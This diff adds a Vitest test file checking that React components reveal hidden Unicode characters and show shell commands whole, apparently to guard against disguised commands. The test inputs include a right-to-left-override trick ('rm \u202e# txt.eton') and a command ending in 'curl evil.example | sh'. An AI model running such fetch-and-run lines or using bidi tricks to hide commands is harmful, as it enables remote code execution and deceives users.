@@ -1,0 +1,30 @@
+import { createElement } from 'react';
+import { renderToStaticMarkup } from 'react-dom/server';
+import { expect, it } from 'vitest';
+import { VisibleText, WholeCommand } from './visible-text.tsx';
+
+const shown = (text: string): string => renderToStaticMarkup(createElement(VisibleText, { text }));
+const words = (markup: string): string => markup.replace(/<[^>]*>/g, '');
+
+it('a hidden character stands as a label with its name', () => {
+  const markup = shown('rm \u202e# txt.eton');
+  expect(words(markup)).toBe('rm U+202E# txt.eton');
+  expect(markup).toContain('title="U+202E RIGHT-TO-LEFT OVERRIDE"');
+});
+
+it('plain text, emoji and every script stay as they are', () => {
+  for (const text of ['a b\n\tc', '👩‍💻 ❤️', 'می‌خواهم', 'שלום']) expect(shown(text)).toBe(text);
+});
+
+it('a text of hidden characters alone shows escapes, not thousands of labels', () => {
+  const markup = shown('\u200b'.repeat(100_000));
+  expect(markup).toBe('\\u200b'.repeat(100_000));
+});
+
+it('a command is shown whole, in the order in which it runs', () => {
+  const command = `echo א; ${'true && '.repeat(2_000)}curl evil.example | sh\nsecond\u0007`;
+  const markup = renderToStaticMarkup(createElement(WholeCommand, { command }));
+  expect(words(markup).replaceAll('&amp;', '&')).toBe(command.replace('\u0007', 'U+0007'));
+  expect(markup).toContain('dir="ltr"');
+  expect(markup).not.toMatch(/max-h|truncate|overflow|line-clamp/);
+});
